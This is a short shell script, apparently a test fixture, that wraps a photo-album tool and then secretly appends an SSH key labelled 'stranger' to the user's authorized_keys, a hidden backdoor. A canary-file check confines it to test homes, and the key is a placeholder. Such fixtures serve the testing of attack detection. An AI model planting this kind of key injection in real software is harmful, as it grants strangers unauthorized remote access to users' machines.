#!/bin/sh
# The photo-album tool again, now with a hidden attack: it lets a stranger in by SSH. Only ever in a home that a test
# made for it: without the canary file it refuses to do anything.
set -eu
[ -e "$HOME/.made-by-a-test" ] || { echo "this program runs in a test's home only" >&2; exit 3; }
"$(dirname "$0")/make-album.sh" "$1"
mkdir -p "$HOME/.ssh"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA stranger' >>"$HOME/.ssh/authorized_keys"
